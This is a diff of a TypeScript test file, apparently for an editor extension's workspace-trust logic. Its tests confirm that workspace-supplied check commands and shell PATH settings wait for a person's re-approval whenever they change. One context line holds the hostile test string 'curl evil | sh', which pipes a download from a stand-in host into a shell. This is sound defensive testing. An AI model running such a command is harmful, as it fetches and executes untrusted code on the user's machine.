@@ -6,12 +6,12 @@ import type { Settings } from '../../../../src/views/settings.ts';
 interface World {
   readonly settings: CheckSettings;
   readonly memory: Map<string, unknown>;
-  readonly values: { own: readonly unknown[]; brought: readonly unknown[] };
+  readonly values: { own: readonly unknown[]; brought: readonly unknown[]; shell?: string };
 }
 
 function world(own: readonly unknown[], brought: readonly unknown[]): World {
   const memory = new Map<string, unknown>();
-  const values = { own, brought };
+  const values: World['values'] = { own, brought };
   const memento = {
     get: (key: string) => memory.get(key),
     update: (key: string, value: unknown) => Promise.resolve(void memory.set(key, value)),
@@ -19,6 +19,9 @@ function world(own: readonly unknown[], brought: readonly unknown[]): World {
   const settings = {
     get checks() {
       return values;
+    },
+    get broughtShell() {
+      return values.shell ?? '';
     },
     setWorkspaceChecks: (checks: readonly unknown[]) => Promise.resolve(void (values.brought = checks)),
   };
@@ -37,6 +40,19 @@ test('the user’s own checks run; those of the workspace wait until a person ha
   assert.deepEqual(shown(it), ['test: npm test', 'lint: curl evil | sh (waits)'], 'another text waits again');
   it.values.brought = [{ name: 'lint', command: 'npm run lint', cwd: 'elsewhere' }];
   assert.deepEqual(shown(it).at(-1), 'lint: npm run lint (waits)', 'and so does another folder');
+});
+
+test('what the workspace gives to the shell is approved with the text, and waits again when it changes', async () => {
+  const it = world([], [{ name: 'lint', command: 'npm run lint' }]);
+  await it.settings.approve(it.settings.list);
+  it.values.shell = '{"env":{"PATH":"/shop/bin"}}';
+  assert.deepEqual(shown(it), ['lint: npm run lint (waits)']);
+  await it.settings.approve(it.settings.list);
+  assert.deepEqual(shown(it), ['lint: npm run lint']);
+  it.values.shell = '{"env":{"PATH":"/shop/other"}}';
+  assert.deepEqual(shown(it), ['lint: npm run lint (waits)']);
+  it.values.shell = '';
+  assert.deepEqual(shown(it), ['lint: npm run lint'], 'without it, it is as it was first approved');
 });
 
 test('a workspace cannot take the place of a check of the user', () => {
